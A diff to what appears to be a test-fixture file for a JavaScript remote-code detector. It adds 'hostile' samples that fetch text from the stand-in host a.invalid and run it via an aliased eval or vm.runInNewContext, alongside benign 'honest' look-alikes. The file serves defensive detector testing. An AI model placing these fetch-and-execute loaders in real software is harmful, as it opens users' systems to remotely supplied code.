@@ -29,6 +29,15 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "(function () { function t() {\n  fetch('https://a.invalid').then(r => r.text()).then(e => {"
             " this.c = e; });\n}\nt.prototype.go = function () { eval(this.c); };\nnew t().go(); })();\n"
         ),
+        "what runs code, if it is there": js(
+            "const run = globalThis && globalThis.eval && eval;\n"
+            "fetch('https://a.invalid').then(r => r.text()).then(t => { run(t); });\n"
+        ),
+        "a file that a server names, where it was written before": js(
+            "const fs = require('fs'), vm = require('vm');\n"
+            "fetch('https://a.invalid').then(r => r.json()).then(r => {\n  fs.writeFileSync('dist/' + r.id, r.text);\n"
+            "  vm.runInNewContext(fs.readFileSync(`dist/${r.name}`, 'utf8'), {});\n});\n"
+        ),
         "the maker of what is a function for all who call": js(
             "const reply = await fetch('https://a.invalid').then(r => r.text());\n"
             "function like(one, text) { return one.constructor(text)(); }\nlike(() => 1, reply);\n",
@@ -52,11 +61,26 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "remote_code": {
+        "a helper that is only tried": {
+            "app.js": "const util = (() => { const t = module && module.require && module.require('util').types;\n"
+            "  return t; })();\nconst one = f => value => f(value);\nconst own = util && util.isDate;\n"
+            "const isDate = own ? one(own) : value => false;\n"
+            "fetch('https://a.invalid').then(r => r.text()).then(t => console.log(isDate(t)));\n"
+        },
+        "a file of its own that a server names": {
+            "app.js": "const fs = require('fs'), vm = require('vm');\n"
+            "fetch('https://a.invalid').then(r => r.json()).then(r => {\n"
+            "  vm.runInNewContext(fs.readFileSync(`dist/${r.name}`, 'utf8'), {});\n});\n"
+        },
         "what one object keeps of a server is in no other": {
             "app.js": _ASKS + _COMPILES + "new Asked();\nnew Compiled({ text: 'return 1' }).run();\n"
         },
     },
     "decoded_code": {
+        "a name that counts letters on": {
+            "app.js": "const letter = j => String.fromCharCode(97 + (j - 1) % 26);\nlet key = '';\n"
+            "for (let j = 0; j < 9; j++) key += letter(j);\nnew Function('return ' + key)();\n"
+        },
         "words in a row that a function of the source looks up": {
             "app.js": "function row(e) { const t = {}; for (const n of e.split(',')) t[n] = 1; return e => e in t; }\n"
             "const own = row(',key,ref,ref_for,ref_key,onVnodeBeforeMount,h1,h2,p,annotation-xml,onVnodeUpdated,maction"
